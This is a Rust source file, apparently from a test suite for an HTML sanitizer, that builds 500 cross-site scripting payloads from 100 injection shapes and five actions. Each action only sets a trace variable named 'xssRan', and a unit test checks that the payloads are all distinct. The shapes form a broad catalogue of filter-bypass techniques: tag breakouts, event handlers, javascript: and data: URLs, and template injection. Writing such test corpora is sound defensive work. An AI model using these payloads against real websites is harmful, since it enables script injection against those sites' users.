//! Texts that try to become script.

/// The variable that a payload sets if it has run.
pub(crate) const TRACE: &str = "xssRan";

/// The action of each: it leaves a trace, in as many ways as there are.
const ACTIONS: [&str; 5] = [
    "top.xssRan=1",
    "window['xssRan']=1",
    "(0,eval)('xssRan=1')",
    "Function('xssRan=1')()",
    "setTimeout('xssRan=1')",
];

/// The shape of each, to be read as something other than text; `@` is the action.
const SHAPES: [&str; 100] = [
    "<script>@</script>",
    "<SCRIPT>@</SCRIPT>",
    "<script\n>@</script\n>",
    "<script/x>@</script>",
    "<scr<script>ipt>@</scr</script>ipt>",
    "</script><script>@</script>",
    "</title><script>@</script>",
    "</style><script>@</script>",
    "</textarea><script>@</script>",
    "</noscript><script>@</script>",
    "<!--><script>@</script>-->",
    "<![CDATA[><script>@</script>]]>",
    "\"><script>@</script>",
    "'><script>@</script>",
    "`><script>@</script>",
    "<script src=\"data:text/javascript,@\"></script>",
    "<script type=module>@</script>",
    "<svg><script>@</script></svg>",
    "<svg><script href=\"data:,@\"/></svg>",
    "<math><mtext><script>@</script>",
    "<img src=x onerror=\"@\">",
    "<img src=x onerror='@'>",
    "<img/src=x/onerror=@>",
    "<IMG SRC=x ONERROR=\"@\">",
    "<img src onerror=\"@\" x=",
    "<img src=x:x onerror\n=\n\"@\">",
    "\"><img src=x onerror=\"@\">",
    "'><img src=x onerror=\"@\">",
    "<<img src=x onerror=\"@\">",
    "<image src=x onerror=\"@\">",
    "<svg onload=\"@\">",
    "<svg/onload=@>",
    "<svg><g onload=\"@\"></g></svg>",
    "<svg><animate onbegin=\"@\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"@\" attributeName=x>",
    "<svg><a xlink:href=\"javascript:@\"><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg onload='@'/>#x\"/></svg>",
    "<svg><foreignObject><body onload=\"@\">",
    "<svg><image href=x onerror=\"@\"/></svg>",
    "<svg><style><img src=x onerror=\"@\">",
    "<body onload=\"@\">",
    "<body onpageshow=\"@\">",
    "<iframe src=\"javascript:@\"></iframe>",
    "<iframe srcdoc=\"<script>@</script>\"></iframe>",
    "<iframe onload=\"@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<object data=\"data:text/html,<script>@</script>\"></object>",
    "<embed src=\"javascript:@\">",
    "<embed src=\"data:text/html,<script>@</script>\">",
    "<frameset onload=\"@\">",
    "<video src=x onerror=\"@\"></video>",
    "<video><source onerror=\"@\"></video>",
    "<audio src=x onerror=\"@\"></audio>",
    "<video poster=x onloadstart=\"@\" src=x></video>",
    "<track onerror=\"@\" src=x>",
    "<input onfocus=\"@\" autofocus>",
    "<select onfocus=\"@\" autofocus></select>",
    "<textarea onfocus=\"@\" autofocus></textarea>",
    "<button onfocus=\"@\" autofocus>x</button>",
    "<details open ontoggle=\"@\">x</details>",
    "<dialog open onfocus=\"@\">",
    "<p tabindex=0 onfocus=\"@\" autofocus>x</p>",
    "<a href=\"javascript:@\">x</a>",
    "<a href=\"JaVaScRiPt:@\">x</a>",
    "<a href=\"java\tscript:@\">x</a>",
    "<a href=\"&#106;avascript:@\">x</a>",
    "<a href=\" javascript:@\">x</a>",
    "javascript:@",
    "JAVASCRIPT:@//",
    "  javascript:@",
    "java\nscript:@",
    "javascript://x/%0a@",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AueHNzUmFuPTE8L3NjcmlwdD4=#@",
    "vbscript:@",
    "<form action=\"javascript:@\"><input type=submit autofocus>",
    "<form><button formaction=\"javascript:@\">x</button></form>",
    "<isindex action=\"javascript:@\" type=submit>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<base href=\"javascript:@//\">",
    "<link rel=stylesheet href=\"javascript:@\">",
    "<link rel=import href=\"data:text/html,<script>@</script>\">",
    "<style>@import 'javascript:@';</style>",
    "<style>*{background:url(\"javascript:@\")}</style>",
    "<div style=\"background:url(javascript:@)\">",
    "<div style=\"width:expression(@)\">",
    "<table background=\"javascript:@\">",
    "<marquee onstart=\"@\">x</marquee>",
    "<template><script>@</script></template>",
    "<portal src=\"javascript:@\">",
    "\" onmouseover=\"@\" x=\"",
    "' onmouseover='@' x='",
    "\" autofocus onfocus=\"@\" x=\"",
    "';@;//",
    "\";@;//",
    "\\\";@;//",
    "${@}",
    "{{constructor.constructor('@')()}}",
    "[[@]]",
    "\u{202e}<img src=x onerror=\"@\">",
];

/// Five hundred of them.
pub(crate) fn all() -> Vec<String> {
    let payloads = SHAPES
        .iter()
        .flat_map(|shape| ACTIONS.iter().map(move |action| shape.replace('@', action)));
    payloads.collect()
}

#[test]
fn there_are_five_hundred_and_no_two_are_the_same() {
    let mut payloads = all();
    payloads.sort();
    payloads.dedup();
    assert_eq!(payloads.len(), 500);
}
